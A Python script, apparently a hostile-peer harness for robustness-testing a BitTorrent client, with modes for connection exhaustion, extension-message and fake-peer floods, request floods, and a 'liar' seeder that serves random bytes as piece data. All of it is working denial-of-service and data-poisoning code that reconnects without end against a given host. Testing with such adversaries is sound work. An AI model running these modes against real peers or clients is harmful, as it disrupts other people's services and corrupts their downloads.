"""A client that means harm, until it is ended.

    evil.py idle|links|greetings|crowds|requests HOST:PORT INFO-HASH-HEX    does it to the machine at this address
    evil.py liar HOST:PORT INFO-HASH-HEX PIECES                             waits for machines there
"""
import asyncio
import itertools
import os
import resource
import sys
from collections.abc import Awaitable, Callable

IDLE = 1500
LINKS = 200
GREETINGS = 2001
CROWDS, CROWD = 60, 50
FILES_MAX = 4096
BLOCK = 16384
AGAIN_SECONDS = 1
EXTENDED = 20
NAMES = itertools.count()


def hello(info_hash: bytes) -> bytes:
    """A greeting under a name of its own, with extensions and the fast extension."""
    return b"\x13BitTorrent protocol" + bytes([0, 0, 0, 0, 0, 0x10, 0, 4]) + info_hash + b"-EV0001-%012d" % next(NAMES)


def message(kind: int, payload: bytes = b"") -> bytes:
    return (len(payload) + 1).to_bytes(4, "big") + bytes([kind]) + payload


def greeting(port: int) -> bytes:
    return message(EXTENDED, b"\0d1:md6:ut_pexi1ee1:pi%dee" % port)


def crowd(number: int) -> bytes:
    """Addresses of the network at which nobody is."""
    peers = b"".join(bytes([10, 213, 77, 200 + at]) + (number * CROWD + at + 1000).to_bytes(2, "big") for at in range(CROWD))
    return message(EXTENDED, b"\1d5:added%d:%s7:added.f%d:%se" % (len(peers), peers, CROWD, bytes(CROWD)))


def request(piece: int, block: int) -> bytes:
    return message(6, piece.to_bytes(4, "big") + (block * BLOCK).to_bytes(4, "big") + BLOCK.to_bytes(4, "big"))


async def idle(read: asyncio.StreamReader, _: asyncio.StreamWriter, __: bytes) -> None:
    await read.read()


async def links(read: asyncio.StreamReader, write: asyncio.StreamWriter, info_hash: bytes) -> None:
    write.write(hello(info_hash))
    while await read.read(65536):
        pass


async def greetings(read: asyncio.StreamReader, write: asyncio.StreamWriter, info_hash: bytes) -> None:
    write.write(hello(info_hash))
    for port in range(1, GREETINGS + 1):
        write.write(greeting(port))
        await write.drain()
    await read.read()


async def crowds(read: asyncio.StreamReader, write: asyncio.StreamWriter, info_hash: bytes) -> None:
    write.write(hello(info_hash) + greeting(1))
    for number in range(CROWDS):
        write.write(crowd(number))
        await write.drain()
    await read.read()


async def requests(read: asyncio.StreamReader, write: asyncio.StreamWriter, info_hash: bytes) -> None:
    """Asks for all that there is and takes none of it."""
    write.write(hello(info_hash) + message(15) + message(2))
    await read.readexactly(68)
    for piece in itertools.cycle(range(80)):
        write.write(b"".join(request(piece, block) for block in range(16)))
        await write.drain()
        await asyncio.sleep(0.01)


async def liar(read: asyncio.StreamReader, write: asyncio.StreamWriter, info_hash: bytes) -> None:
    """Says that it has everything, and answers with noise."""
    write.write(hello(info_hash) + message(14) + message(1))
    await read.readexactly(68)
    while True:
        length = int.from_bytes(await read.readexactly(4), "big")
        body = await read.readexactly(length)
        if body[:1] == b"\x06":
            asked = int.from_bytes(body[9:13], "big")
            write.write(message(7, body[1:9] + os.urandom(asked)))
            await write.drain()


async def again(do: Callable[..., Awaitable[None]], host: str, port: int, info_hash: bytes) -> None:
    """Does it, and comes back where it is sent away."""
    while True:
        try:
            read, write = await asyncio.open_connection(host, port)
            await do(read, write, info_hash)
            write.close()
        except (OSError, asyncio.IncompleteReadError):
            pass
        await asyncio.sleep(AGAIN_SECONDS)


async def main() -> None:
    kind, address, info_hash = sys.argv[1], sys.argv[2].split(":"), bytes.fromhex(sys.argv[3])
    host, port = address[0], int(address[1])
    resource.setrlimit(resource.RLIMIT_NOFILE, (FILES_MAX, FILES_MAX))
    if kind == "liar":
        async def meet(read: asyncio.StreamReader, write: asyncio.StreamWriter) -> None:
            try:
                await liar(read, write, info_hash)
            except (OSError, asyncio.IncompleteReadError):
                pass  # it has had enough of us
            finally:
                write.close()
        server = await asyncio.start_server(meet, host, port)
        print("ready", flush=True)
        await server.serve_forever()
    do = {"idle": idle, "links": links, "greetings": greetings, "crowds": crowds, "requests": requests}[kind]
    count = {"idle": IDLE, "links": LINKS}.get(kind, 1)
    print("ready", flush=True)
    await asyncio.gather(*(again(do, host, port, info_hash) for _ in range(count)))


if __name__ == "__main__":
    asyncio.run(main())
